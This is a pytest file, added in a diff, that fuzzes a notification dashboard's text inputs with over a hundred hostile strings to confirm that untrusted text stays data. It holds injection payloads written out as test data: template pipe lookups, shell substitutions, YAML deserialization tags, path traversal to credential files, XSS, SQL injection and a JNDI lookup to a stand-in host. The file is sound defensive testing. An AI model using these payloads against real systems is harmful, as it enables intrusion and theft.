@@ -1,0 +1,299 @@
+"""Hostile text against every text input of the dashboard (issue 19): untrusted text is data, never code.
+
+What is real: the Dashboard (users file with scrypt hashes, SQLite event store and audit trail, session key,
+sessions file), its Flask app behind the real Werkzeug server on a loopback port, every request over HTTP with
+``requests``, and one real control run: ``activate-emergency`` confirmed with a reason made of template
+injections and shell substitutions, run by the toolkit through ansible-runner and ``ansible-playbook`` against
+a host whose service is down (the playbook's first task renders the reason on the control node, which is
+where an injection would run).
+
+What is not: the other inputs stop before a playbook would run. Each hostile reason is sent without
+``confirmed`` (the server's confirmation text, which checks and echoes the inputs exactly as a run would get
+them, and starts nothing); the other fields are refused by their checks. The login throttle is given
+limits no test reaches (it is tested in test_dashboard_security.py), so that every input meets the checks
+rather than a 429. Hostile passwords are a sample (each one costs a real scrypt check, ~0.1 s); hostile user
+names are all sent (a name no user can have costs no check).
+
+For every answer: no 5xx, no traceback, no secret (the session key, a password hash, a password); every 400
+names the field; no canary file appears."""
+
+from __future__ import annotations
+
+import base64
+import json
+import shutil
+import tempfile
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import quote
+
+import pytest
+import requests
+
+from notification_emergency.dashboard import Dashboard, DashboardServer
+from notification_emergency.dashboard.app import LoginThrottle
+from tests.dashboard.conftest import PASSWORDS, csrf_of
+
+PASSWORD_SAMPLE = 12
+
+
+def hostile_strings(canary: Path) -> list[str]:
+    """More than 100 distinct hostile strings; each that could run something would ``touch`` ``canary``."""
+    touch = f"touch {canary}"
+    base = [
+        # Jinja, as Ansible and the reference app's templates read it, with raw-block escapes and comments
+        f"{{{{ lookup('pipe','{touch}') }}}}",
+        f"{{{{ query('pipe', '{touch}') }}}}",
+        f"{{{{ lookup('ansible.builtin.pipe', '{touch}') }}}}",
+        f"{{% endraw %}}{{{{ lookup('pipe','{touch}') }}}}{{% raw %}}",
+        f"{{%- endraw -%}}{{{{ lookup('pipe','{touch}') }}}}{{%- raw -%}}",
+        f"{{% raw %}}{{{{ lookup('pipe','{touch}') }}}}",
+        f"{{% set x = lookup('pipe','{touch}') %}}{{{{ x }}}}",
+        f"{{% for i in range(1) %}}{{{{ lookup('pipe','{touch}') }}}}{{% endfor %}}",
+        f"{{# {touch} #}}{{{{ 7*7 }}}}",
+        "{# unterminated comment",
+        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
+        "{{ notification_service_api_token }} {{ notification_service_secret_key }}",
+        "{{ hostvars | to_json }}",
+        "{{ lookup('env', 'HOME') }}",
+        "Template error: {{ user.name }} undefined in page",
+        "{{",
+        "}}{%",
+        "{{{{}}}}",
+        f"#{{{touch}}} ${{{touch}}} <%= `{touch}` %>",
+        # shell
+        f"$({touch})",
+        f"`{touch}`",
+        f"; {touch}",
+        f"| {touch}",
+        f"&& {touch} &",
+        f"'; {touch}; echo '",
+        f'"; {touch}; echo "',
+        f"$(echo dG91Y2gK | base64 -d) {canary}",
+        "-rf /",
+        "--help",
+        "-e @/etc/passwd",
+        "* ? [a-z] ~",
+        # control characters, terminal escapes, bidi, odd whitespace
+        "\x1b[2J\x1b[H",
+        "\x1b]0;owned\x07",
+        "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07",
+        "\x9b31mC1 CSI",
+        "\x00NUL",
+        "\r\nforged: line",
+        "\x08\x08\x08backspace",
+        "\u202eevil\u202c",
+        "\u2066isolate\u2069",
+        "\u2028\u2029",
+        "\ufeffBOM",
+        "\x7fDEL\x85NEL",
+        "tab\tand\vvertical\ftab",
+        # lone surrogates (JSON "\ud800" escapes: valid JSON, not Unicode)
+        "\ud800",
+        "title \udfff end",
+        "\udbff\udbff",
+        # long
+        "A" * 301,
+        "B" * 5000,
+        "{{" * 2000,
+        "\x1b" * 1000,
+        "é" * 400,
+        # YAML specials
+        f"!!python/object/apply:os.system ['{touch}']",
+        "!!python/name:os.system",
+        "!unsafe x",
+        "&a [*a, *a]",
+        "*a",
+        "key: value",
+        "- item",
+        "? complex",
+        "%YAML 1.1",
+        "---",
+        "...",
+        "null",
+        "~",
+        "yes",
+        "0x1F",
+        ".inf",
+        "<<: *base",
+        # paths
+        "../../etc/passwd",
+        "/etc/shadow",
+        "~root/.ssh/id_rsa",
+        "..\\..\\windows\\win.ini",
+        "file:///etc/passwd",
+        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
+        "/proc/self/environ",
+        # nested JSON and markup, as text
+        '{"action": "rollback", "confirmed": true}',
+        "[[[[[[[[[[]]]]]]]]]]",
+        '{"a": {"b": {"c": [1, 2, {"d": null}]}}}',
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "</textarea><svg onload=alert(1)>",
+        # format strings, SQL, numbers that are text
+        "%s%s%s%n",
+        "{0.__class__}",
+        "${jndi:ldap://evil.example/a}",
+        "'; DROP TABLE audit_log; --",
+        "1 OR 1=1",
+        "-1",
+        "1e99999",
+        "NaN",
+        "99999999d",
+        "0",
+        "",
+        " ",
+        # Unicode that is fine: emoji, right-to-left text, combining marks, zero width
+        "Notifications delayed \U0001f6a8",
+        "\u05d4\u05ea\u05e8\u05d0\u05d4",
+        "e\u0301\u0301\u0301",
+        "zero\u200bwidth",
+    ]
+    variants = [f"Outage: {text}" for text in base[:30]] + [f"{text}\n" for text in base[19:29]]
+    strings = list(dict.fromkeys(base + variants))
+    assert len(strings) >= 100
+    return strings
+
+
+def secrets_of(state: Path, users_file: Path) -> list[str]:
+    """What must never appear in an answer: the session key, each password hash (and its digest), passwords."""
+    text = users_file.read_text()
+    hashes = [line.split('"')[1] for line in text.splitlines() if "password_hash" in line and '"' in line]
+    hashes += [line.split(":", 1)[1].strip().strip("'\"") for line in text.splitlines() if "password_hash:" in line]
+    found = [(state / "dashboard-secret.key").read_text().strip(), *PASSWORDS.values()]
+    for value in hashes:
+        found += [value, value.rsplit("$", 1)[-1]]
+    return [value for value in found if len(value) >= 8]
+
+
+def wire(text: str) -> bytes:
+    """``text`` as bytes for a form or a URL (a lone surrogate as the bytes Python would write for it)."""
+    return text.encode("utf-8", "surrogatepass")
+
+
+def json_body(value: Any) -> bytes:
+    """A JSON body: lone surrogates as ``\\ud800`` escapes (valid JSON), as a hostile client would send them."""
+    return json.dumps(value, ensure_ascii=True).encode()
+
+
+@pytest.fixture
+def canary() -> Iterator[Path]:
+    """A file nobody creates, at a short path (the real run's reason must stay under 300 characters)."""
+    home = Path(tempfile.mkdtemp(prefix="cn"))
+    yield home / "C"
+    shutil.rmtree(home)
+
+
+def test_hostile_text_is_data_on_every_text_input(
+    make_dashboard: Callable[..., Dashboard],
+    offline_inventory: Path,
+    serve: Callable[..., DashboardServer],
+    state: Path,
+    users_file: Path,
+    canary: Path,
+) -> None:
+    dashboard = make_dashboard(offline_inventory)
+    server = serve(dashboard, throttle=LoginThrottle(per_user=10**9, per_address=10**9))
+    url = server.url
+    strings = hostile_strings(canary)
+    never = secrets_of(state, users_file)
+    seen: dict[str, int] = {}
+
+    def check(answer: requests.Response, field: str, named: str | None = None) -> requests.Response:
+        """No 5xx, no traceback, no secret; a 400 names ``named`` (the field, by default)."""
+        where = f"{answer.request.method} {answer.request.url[:120]} ({field})"
+        assert answer.status_code < 500, f"{where}: {answer.status_code} {answer.text[:300]}"
+        body = answer.text
+        assert "Traceback" not in body and 'File "/' not in body, f"{where}: {body[:500]}"
+        for secret in never:
+            assert secret not in body, f"{where}: a secret in the answer"
+        if answer.status_code == 400 and answer.headers["Content-Type"].startswith("application/json"):
+            assert (named or field) in answer.json()["error"], f"{where}: {answer.json()['error'][:300]}"
+        seen[field] = seen.get(field, 0) + 1
+        return answer
+
+    operator = requests.Session()
+    page = operator.get(f"{url}/login", timeout=10)
+    home = operator.post(
+        f"{url}/login",
+        data={"username": "alice", "password": PASSWORDS["alice"], "csrf_token": csrf_of(page.text)},
+        timeout=30,
+    )
+    token = csrf_of(home.text)
+
+    def post(body: bytes) -> requests.Response:
+        return operator.post(
+            f"{url}/api/actions",
+            data=body,
+            headers={"X-CSRF-Token": token, "Content-Type": "application/json"},
+            timeout=30,
+        )
+
+    stranger = requests.Session()
+    form = csrf_of(stranger.get(f"{url}/login", timeout=10).text)
+    accepted_reasons = 0
+    for number, text in enumerate(strings):
+        # the JSON API: every field of POST /api/actions
+        check(post(json_body({"action": text, "confirmed": True})), "action")
+        check(post(json_body({"action": "health-check", "hosts": [text], "confirmed": True})), "hosts")
+        check(post(json_body({"action": "restart", "inputs": {"components": [text]}})), "components")
+        check(post(json_body({"action": "activate-emergency", "inputs": {"reason": "x", "level": text}})), "level")
+        check(post(json_body({"action": "health-check", "inputs": {text: 1}})), "inputs", "inputs")
+        check(post(json_body({"action": "health-check", text: True})), "body field", "unknown")
+        check(post(json_body(text)), "body", "request body")
+        if not text.lstrip().startswith("{"):  # (a JSON object as the raw body is a request: sent as text above)
+            check(post(wire(text)), "raw body", "request body")
+        preview = check(post(json_body({"action": "activate-emergency", "inputs": {"reason": text}})), "reason")
+        if preview.status_code == 200:  # accepted as text: echoed exactly, nothing started
+            accepted_reasons += 1
+            expected = " ".join(text.split())
+            assert preview.json()["inputs"]["reason"] == expected
+            assert f'"{expected}"' in preview.json()["confirm"]
+        else:
+            assert preview.status_code == 400, preview.text
+        # query parameters and the path
+        for endpoint in ("events", "stats", "audit") if number % 5 == 0 else ("events",):
+            check(operator.get(f"{url}/api/{endpoint}", params={"since": wire(text)}, timeout=10), "since")
+        check(operator.get(f"{url}/api/events", params={"limit": wire(text)}, timeout=10), "limit")
+        check(operator.get(f"{url}/api/events", params={"kind": wire(text)}, timeout=10), "kind")
+        check(operator.get(f"{url}/api/actions/{quote(wire(text), safe='')}", timeout=10), "job id", "action")
+        # the login form and Basic credentials: names (all), passwords (a sample, each a real scrypt check)
+        login = {"username": wire(text), "password": b"some-password", "csrf_token": form}
+        assert check(stranger.post(f"{url}/login", data=login, timeout=30), "username").status_code in (400, 401)
+        credentials = base64.b64encode(wire(text) + b":some-password").decode()
+        answer = requests.get(f"{url}/api/status", headers={"Authorization": f"Basic {credentials}"}, timeout=30)
+        assert check(answer, "basic").status_code == 401
+    for text in strings[:: len(strings) // PASSWORD_SAMPLE][:PASSWORD_SAMPLE]:
+        login = {"username": b"bob", "password": wire(text), "csrf_token": form}
+        assert check(stranger.post(f"{url}/login", data=login, timeout=30), "password").status_code in (400, 401)
+
+    assert accepted_reasons >= 40, "the checks refuse control characters and surrogates, not braces and quotes"
+    assert operator.get(f"{url}/api/actions", timeout=10).json()["jobs"] == [], "no input started anything"
+    assert dashboard.store.runs() == []
+
+    # One real run: a reason of template injections and shell substitutions, confirmed.
+    reason = (
+        f"{{{{ lookup('pipe','touch {canary}') }}}} {{% endraw %}}{{{{ query('pipe','touch {canary}') }}}}{{% raw %}}"
+        f" $(touch {canary}) `touch {canary}` {{# x #}} {{{{ notification_service_secret_key }}}} {{{{ user.name }}}}"
+    )
+    started = post(json_body({"action": "activate-emergency", "inputs": {"reason": reason}, "confirmed": True}))
+    assert started.status_code == 202, started.text
+    job_id = started.json()["job"]["id"]
+    deadline = time.monotonic() + 180
+    while (job := operator.get(f"{url}/api/actions/{job_id}", timeout=10).json())["state"] == "running":
+        assert time.monotonic() < deadline, job["progress"]
+        time.sleep(0.3)
+    progress = "\n".join(job["progress"])
+    assert "play: Activate emergency mode" in progress and "Validate the inputs" not in progress, progress
+    assert "failed at Take the host lock" in progress, "past the inputs' check (which reads the reason): the host"
+    assert "undefined" not in progress.lower(), f"the reason was rendered as a template: {progress}"
+    [run] = dashboard.store.runs()
+    assert run["playbook"] == "emergency_activate.yml"
+    requested = next(e for e in dashboard.store.audit_trail() if e["action"] == "dashboard activate-emergency")
+    assert requested["details"]["inputs"]["reason"] == reason, "the audit trail holds the text as typed"
+
+    assert not canary.exists(), "a hostile input ran a command"
+    assert sum(seen.values()) >= 100 * 15, seen
